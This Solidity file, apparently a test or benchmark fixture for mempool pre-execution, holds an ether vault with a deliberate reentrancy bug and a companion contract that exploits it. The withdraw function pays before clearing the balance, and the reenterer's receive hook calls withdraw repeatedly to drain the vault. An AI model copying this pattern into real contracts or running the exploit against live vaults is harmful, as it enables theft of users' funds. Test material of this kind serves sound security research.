// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/access/AccessControl.sol";
import "@openzeppelin/contracts/security/Pausable.sol";

/// @title GuardedEtherVault
/// @notice An ether vault with the classic reentrancy bug that a guardian can pause, and a
///         contract that exploits it, for mempool pre-execution tests and benchmarks.
///         Never deploy it with real funds.
contract GuardedEtherVault is AccessControl, Pausable {
    bytes32 public constant PAUSER_ROLE = keccak256("PAUSER_ROLE");

    mapping(address => uint256) public balances;

    constructor(address pauser) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(PAUSER_ROLE, msg.sender);
        _grantRole(PAUSER_ROLE, pauser);
    }

    function deposit() external payable whenNotPaused {
        balances[msg.sender] += msg.value;
    }

    /// @dev Pays before it clears the balance: the bug.
    function withdraw() external whenNotPaused {
        uint256 amount = balances[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "payment failed");
        balances[msg.sender] = 0;
    }

    function pause() external onlyRole(PAUSER_ROLE) {
        _pause();
    }

    function unpause() external onlyRole(PAUSER_ROLE) {
        _unpause();
    }
}

/// @notice Deposits, then withdraws `rounds` more times from inside the vault's payment.
contract GuardedVaultReenterer {
    GuardedEtherVault public immutable vault;
    address private immutable owner;
    uint256 private rounds;

    constructor(GuardedEtherVault target) {
        vault = target;
        owner = msg.sender;
    }

    function attack(uint256 extraRounds) external payable {
        require(msg.sender == owner, "owner only");
        rounds = extraRounds;
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (rounds > 0) {
            rounds -= 1;
            vault.withdraw();
        }
    }
}
